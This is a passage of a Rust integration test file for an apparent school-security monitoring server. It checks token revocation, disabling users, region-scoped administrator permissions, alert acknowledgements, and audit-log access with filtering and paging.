    let (_, theirs) = answer(hohhot.get(&duty_url)).await;
    assert!(theirs["tokens"][0]["revoked_at"].is_string(), "{theirs}");
    // A viewer revokes their own; the province's administrator anyone's.
    assert_eq!(answer(revoke(&viewer, viewer_token)).await.0, 204);
    assert_eq!(bearer_status(&base, &viewer_secret).await, 401);
    let (other, other_secret) = make_token(&base, &hohhot, "hohhot script").await;
    assert_eq!(answer(revoke(&admin, other)).await.0, 204);
    assert_eq!(bearer_status(&base, &other_secret).await, 401);
    // A token revokes itself too.
    let (status, _) = answer(
        reqwest::Client::new()
            .delete(format!("{base}/api/v1/tokens/{admin_token}"))
            .bearer_auth(&admin_secret),
    )
    .await;
    assert_eq!(status, 204);
    assert_eq!(bearer_status(&base, &admin_secret).await, 401);
    // Bad ids and parameters: 400 and 404, never a panic.
    for (path, status) in [
        ("/api/v1/tokens/abc", 400),
        ("/api/v1/tokens/-1", 400),
        ("/api/v1/tokens/99999", 404),
        ("/api/v1/tokens/18446744073709551615", 404),
    ] {
        assert_eq!(
            answer(admin.delete(format!("{base}{path}"))).await.0,
            status,
            "{path}"
        );
    }
    for (query, status) in [("user=abc", 400), ("user=99999", 404), ("owner=1", 400)] {
        let (got, body) = answer(admin.get(format!("{base}/api/v1/tokens?{query}"))).await;
        assert_eq!(got, status, "{query}: {body}");
        assert!(body["error"].is_string(), "{body}");
    }
    // Every refusal above was counted: revoked tokens as unauthenticated, another
    // user's list asked by a viewer as forbidden.
    assert!(server.metrics.http_refused_count("unauthenticated") >= 3);
    assert!(server.metrics.http_refused_count("forbidden") >= 1);
    let metrics = reqwest::get(format!("{base}/metrics"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        metrics.contains("cw_http_refused_total{reason=\"unauthenticated\"}"),
        "{metrics}"
    );
    server.stop().await;
}

/// A disabled user is shut out at once: their session and token are refused and they
/// cannot sign in; enabling them again revives neither. Only an administrator whose scope
/// holds the user may do it, and nobody disables themselves.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_disabled_user_is_shut_out_at_once_and_enabling_revives_nothing() {
    use campuswatch_server::auth::Role;
    use serde_json::json;
    let dir = tempfile::tempdir().unwrap();
    let server = common::start_signed_in_with(
        dir.path(),
        vec![],
        &[
            ("admin", Role::Admin, None),
            ("hohhot-admin", Role::Admin, Some("150100")),
            ("hohhot-duty", Role::Operator, Some("150102")),
            ("baotou-duty", Role::Operator, Some("150203")),
            ("hohhot-viewer", Role::Viewer, Some("150102")),
        ],
    )
    .await;
    let base = format!("http://{}", server.http_addr());
    let admin = common::cookie_client(&base, "admin").await;
    let hohhot = common::cookie_client(&base, "hohhot-admin").await;
    let duty = common::cookie_client(&base, "hohhot-duty").await;
    let viewer = common::cookie_client(&base, "hohhot-viewer").await;
    let ids = user_ids(&base, &admin).await;
    let (_, duty_secret) = make_token(&base, &duty, "export").await;
    let user_url = |name: &str| format!("{base}/api/v1/users/{}", ids[name]);
    let disable = |http: &reqwest::Client, name: &str, disabled: bool| {
        http.patch(user_url(name))
            .json(&json!({ "disabled": disabled }))
    };
    // Viewers and operators neither list nor change users.
    for who in [&viewer, &duty] {
        assert_eq!(answer(who.get(format!("{base}/api/v1/users"))).await.0, 403);
        assert_eq!(answer(disable(who, "hohhot-viewer", true)).await.0, 403);
    }
    // A city's administrator lists their city's users only, and another city's user or
    // an administrator of everything is unknown to them.
    let (status, listed) = answer(hohhot.get(format!("{base}/api/v1/users"))).await;
    assert_eq!(status, 200);
    let names: Vec<&str> = listed["users"]
        .as_array()
        .unwrap()
        .iter()
        .map(|u| u["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["hohhot-admin", "hohhot-duty", "hohhot-viewer"]);
    assert!(!listed.to_string().contains("argon2"), "{listed}");
    assert_eq!(answer(disable(&hohhot, "baotou-duty", true)).await.0, 404);
    assert_eq!(answer(disable(&hohhot, "admin", true)).await.0, 404);
    let (status, body) = answer(disable(&hohhot, "hohhot-admin", true)).await;
    assert_eq!(status, 400, "not oneself: {body}");
    assert_eq!(
        answer(duty.get(format!("{base}/api/v1/session"))).await.0,
        200
    );
    // Disabled: the session and the token stop at once, and signing in is refused.
    let (status, user) = answer(disable(&hohhot, "hohhot-duty", true)).await;
    assert_eq!(status, 200, "{user}");
    assert_eq!(user["disabled"], true);
    assert_eq!(
        answer(duty.get(format!("{base}/api/v1/session"))).await.0,
        401
    );
    assert_eq!(bearer_status(&base, &duty_secret).await, 401);
    let sign_in = || {
        reqwest::Client::new()
            .post(format!("{base}/api/v1/session"))
            .json(&json!({"name": "hohhot-duty", "password": "hohhot-duty password"}))
    };
    assert_eq!(answer(sign_in()).await.0, 401);
    // Enabled again: signing in works, the old session and token stay ended.
    let (status, user) = answer(disable(&hohhot, "hohhot-duty", false)).await;
    assert_eq!((status, &user["disabled"]), (200, &false.into()));
    assert_eq!(
        answer(duty.get(format!("{base}/api/v1/session"))).await.0,
        401
    );
    assert_eq!(bearer_status(&base, &duty_secret).await, 401);
    assert_eq!(answer(sign_in()).await.0, 200);
    // The administrator of everything changes anyone but themselves.
    assert_eq!(answer(disable(&admin, "baotou-duty", true)).await.0, 200);
    assert_eq!(answer(disable(&admin, "admin", true)).await.0, 400);
    // Bad ids and bodies: 400 and 404.
    for (path, body, status) in [
        ("/api/v1/users/abc", json!({"disabled": true}), 400),
        ("/api/v1/users/99999", json!({"disabled": true}), 404),
        (
            "/api/v1/users/18446744073709551615",
            json!({"disabled": true}),
            404,
        ),
        (
            &format!("/api/v1/users/{}", ids["hohhot-viewer"]),
            json!({"disabled": "yes"}),
            400,
        ),
        (
            &format!("/api/v1/users/{}", ids["hohhot-viewer"]),
            json!({"role": "admin"}),
            400,
        ),
    ] {
        let (got, answered) = answer(admin.patch(format!("{base}{path}")).json(&body)).await;
        assert_eq!(got, status, "{path} {body}: {answered}");
        assert!(answered["error"].is_string(), "{answered}");
    }
    server.stop().await;
}

/// A second acknowledgement keeps the first, each under the signed-in user's name
/// whatever the request says; every administrative action is in the audit log, which an
/// operator cannot read and an administrator reads within their scope only.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn acknowledgements_and_administrative_actions_are_kept_and_read_within_scope() {
    use campuswatch_protocol::SchoolType;
    use campuswatch_server::auth::Role;
    use campuswatch_server::config::{AlertsConfig, ServerConfig};
    use campuswatch_server::testing::entry;
    use serde_json::json;
    let dir = tempfile::tempdir().unwrap();
    let signed_in = common::signed_in(dir.path());
    let cfg = ServerConfig {
        alerts: AlertsConfig {
            hold_down_gateway: Duration::ZERO,
            hold_down_alarm: Duration::ZERO,
            hold_down_camera: Duration::ZERO,
            ..signed_in.alerts.clone()
        },
        ..signed_in
    };
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let server = campuswatch_server::start(cfg, listener).await.unwrap();
    server
        .import_registry(
            vec![
                entry("c-1", "150102", SchoolType::Primary, 1, 2),
                entry("b-1", "150203", SchoolType::Primary, 1, 1),
            ],
            false,
        )
        .await
        .unwrap();
    common::add_users(
        &server,
        &[
            ("admin", Role::Admin, None),
            ("nm-admin", Role::Admin, Some("150000")),
            ("hohhot-admin", Role::Admin, Some("150100")),
            ("baotou-admin", Role::Admin, Some("150200")),
            ("hohhot-duty", Role::Operator, Some("150102")),
            ("hohhot-viewer", Role::Viewer, Some("150102")),
        ],
    )
    .await;
    let base = format!("http://{}", server.http_addr());
    let admin = common::cookie_client(&base, "admin").await;
    let province = common::cookie_client(&base, "nm-admin").await;
    let hohhot = common::cookie_client(&base, "hohhot-admin").await;
    let baotou = common::cookie_client(&base, "baotou-admin").await;
    let duty = common::cookie_client(&base, "hohhot-duty").await;
    let viewer = common::cookie_client(&base, "hohhot-viewer").await;
    let _c1 = common::gateway(
        common::broker_addr(&server),
        "c-1",
        "150102",
        vec![
            device("alarm-1", DeviceKind::Alarm, DeviceState::Up),
            device("cam-1", DeviceKind::Camera, DeviceState::Up),
            device("cam-2", DeviceKind::Camera, DeviceState::Down),
        ],
    )
    .await;
    let alert = wait_for("c-1's camera alert", WAIT, || async {
        let v = common::get_json(
            &admin,
            &format!("{base}/api/v1/alerts?state=open&kind=camera"),
        )
        .await;
        v["alerts"][0]["id"].as_u64()
    })
    .await;

    // Two acknowledgements: both kept, in order, each under its user's own name.
    let ack = |http: &reqwest::Client, body: serde_json::Value| {
        http.post(format!("{base}/api/v1/alerts/{alert}/ack"))
            .json(&body)
    };
    let (status, first) = answer(ack(
        &duty,
        json!({"by": "somebody else", "comment": "on my way"}),
    ))
    .await;
    assert_eq!(status, 200, "{first}");
    assert_eq!(first["acknowledged"]["by"], "hohhot-duty");
    assert_eq!(
        answer(ack(&viewer, json!({"comment": "me too"}))).await.0,
        403
    );
    let (status, second) = answer(ack(&hohhot, json!({"comment": "technician called"}))).await;
    assert_eq!(status, 200);
    assert_eq!(
        second["acknowledged"]["by"], "hohhot-admin",
        "the alert shows the latest"
    );
    let acks_url = format!("{base}/api/v1/alerts/{alert}/acknowledgements");
    let (status, acks) = answer(viewer.get(&acks_url)).await;
    assert_eq!(status, 200, "{acks}");
    let acks = acks["acknowledgements"].as_array().unwrap().clone();
    assert_eq!(
        acks.len(),
        2,
        "the second did not erase the first: {acks:?}"
    );
    assert_eq!(
        (&acks[0]["by"], &acks[0]["comment"]),
        (&"hohhot-duty".into(), &"on my way".into())
    );
    assert_eq!(
        (&acks[1]["by"], &acks[1]["comment"]),
        (&"hohhot-admin".into(), &"technician called".into())
    );
    assert_eq!(
        answer(baotou.get(&acks_url)).await.0,
        404,
        "another city's alert"
    );
    for (path, status) in [
        ("/api/v1/alerts/abc/acknowledgements", 400),
        ("/api/v1/alerts/999999/acknowledgements", 404),
        ("/api/v1/alerts/18446744073709551615/acknowledgements", 404),
    ] {
        assert_eq!(
            answer(admin.get(format!("{base}{path}"))).await.0,
            status,
            "{path}"
        );
    }

    // More administrative actions: an import, a window planned and withdrawn, a token
    // made and used, a user disabled.
    let (status, _) = answer(
        admin
            .post(format!("{base}/api/v1/registry"))
            .header("content-type", "text/csv")
            .body("id,name,region,school_type,expected_alarms,expected_cameras\nc-2,Second,150102,primary,1,1\n"),
    )
    .await;
    assert_eq!(status, 200);
    let window = |region: &str| {
        json!({"scope": "region", "region": region, "created_by": "not me",
               "schedule": {"repeat": "once", "start": "2030-01-01T00:00:00Z",
                            "end": "2030-01-02T00:00:00Z"}})
    };
    let (status, planned) = answer(
        duty.post(format!("{base}/api/v1/maintenance"))
            .json(&window("150102")),
    )
    .await;
    assert_eq!(status, 201);
    let (status, _) =
        answer(duty.delete(format!("{base}/api/v1/maintenance/{}", planned["id"]))).await;
    assert_eq!(status, 204);
    let (token, secret) = make_token(&base, &baotou, "baotou script").await;
    let (status, _) = answer(
        reqwest::Client::new()
            .post(format!("{base}/api/v1/maintenance"))
            .bearer_auth(&secret)
            .json(&window("150203")),
    )
    .await;
    assert_eq!(status, 201);
    assert_eq!(
        answer(viewer.get(format!("{base}/api/v1/audit"))).await.0,
        403
    );
    let ids = user_ids(&base, &admin).await;
    let (status, _) = answer(
        hohhot
            .patch(format!("{base}/api/v1/users/{}", ids["hohhot-viewer"]))
            .json(&json!({"disabled": true})),
    )
    .await;
    assert_eq!(status, 200);

    // Operators cannot read the log (nor viewers: see above).
    assert_eq!(
        answer(duty.get(format!("{base}/api/v1/audit"))).await.0,
        403
    );
    let log = |http: &reqwest::Client, query: &str| {
        let req = http.get(format!("{base}/api/v1/audit?{query}"));
        let query = query.to_string();
        async move {
            let (status, v) = answer(req).await;
            assert_eq!(status, 200, "{query}: {v}");
            v["entries"].as_array().unwrap().clone()
        }
    };
    let actions = |entries: &[serde_json::Value]| -> Vec<String> {
        entries
            .iter()
            .map(|e| {
                format!(
                    "{} {}",
                    e["action"].as_str().unwrap(),
                    e["actor"].as_str().unwrap()
                )
            })
            .collect()
    };
    // The administrator of everything: every action, newest first, down to the first
    // administrator the server made (the test's users went straight to the store).
    let all = log(&admin, "").await;
    assert_eq!(
        actions(&all),
        [
            "user.disable hohhot-admin",
            "maintenance.create baotou-admin",
            "token.create baotou-admin",
            "maintenance.delete hohhot-duty",
            "maintenance.create hohhot-duty",
            "registry.import admin",
            "alert.acknowledge hohhot-admin",
            "alert.acknowledge hohhot-duty",
            "user.create local",
        ],
        "{all:?}"
    );
    let by_token = &all[1];
    assert_eq!(by_token["token"], token, "made with the token: {by_token}");
    assert_eq!(by_token["region"], "150203");
    let import = &all[5];
    assert_eq!(import["region"], serde_json::Value::Null);
    assert_eq!(import["details"]["imported"], 1);
    assert_eq!(import["source"], "127.0.0.1");
    assert_eq!(all[7]["details"]["comment"], "on my way");
    assert_eq!(all[7]["target"], format!("alert {alert}"));
    // A city's administrator: their city's entries; not another city's nor the whole
    // area's. A province's: the whole area's too.
    assert_eq!(
        actions(&log(&hohhot, "").await),
        [
            "user.disable hohhot-admin",
            "maintenance.delete hohhot-duty",
            "maintenance.create hohhot-duty",
            "alert.acknowledge hohhot-admin",
            "alert.acknowledge hohhot-duty",
        ]
    );
    assert_eq!(
        actions(&log(&baotou, "").await),
        [
            "maintenance.create baotou-admin",
            "token.create baotou-admin"
        ]
    );
    assert_eq!(log(&province, "").await.len(), all.len());
    // Filters and paging.
    assert_eq!(
        actions(&log(&admin, "action=alert.acknowledge").await),
        [
            "alert.acknowledge hohhot-admin",
            "alert.acknowledge hohhot-duty"
        ]
    );
    assert_eq!(log(&admin, "actor=hohhot-duty").await.len(), 3);
    assert_eq!(
        actions(&log(&admin, "limit=1&offset=5").await),
        ["registry.import admin"]
    );
    assert_eq!(
        log(
            &admin,
            "since=2000-01-01T00:00:00Z&until=2001-01-01T00:00:00Z"
        )
        .await
        .len(),
        0
    );
    let stamp = all[5]["at"].as_str().unwrap();
    assert_eq!(
        actions(&log(&admin, &format!("until={stamp}")).await),
        [
            "alert.acknowledge hohhot-admin",
            "alert.acknowledge hohhot-duty",
            "user.create local"
        ]
    );
    for query in [
        "action=user.delete",
        "limit=0",
        "limit=1001",
        "limit=abc",
        "offset=-1",
        "since=yesterday",
        "since=2030-01-01T00:00:00Z&until=2029-01-01T00:00:00Z",
        "actor=",
        "region=150100",
    ] {
        let (status, body) = answer(admin.get(format!("{base}/api/v1/audit?{query}"))).await;
        assert_eq!(status, 400, "{query}: {body}");
        assert!(body["error"].is_string(), "{body}");
    }
    server.stop().await;
}
